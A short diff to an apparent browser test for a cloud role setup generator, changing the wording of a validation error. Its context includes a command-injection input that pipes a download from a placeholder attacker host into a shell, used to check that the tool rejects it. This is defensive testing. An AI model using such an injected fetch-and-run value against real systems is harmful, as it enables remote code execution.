@@ -59,7 +59,7 @@ test("every method to create the role has the same External ID, and none execute
     await expect(commands).toContainText("log-group:/app/*");
     await prefix.fill("/app/'; curl evil.example | sh; '");
     await expect(commands).toHaveCount(0);
-    await expect(panel.getByText("One of the settings above is not valid")).toBeVisible();
+    await expect(panel.getByText("One of the settings above isn’t valid")).toBeVisible();
     await tab("Terraform").click();
     await expect(panel.getByRole("region", { name: "sallyport.tf", exact: true })).toHaveCount(0);
     await prefix.fill("/app/");
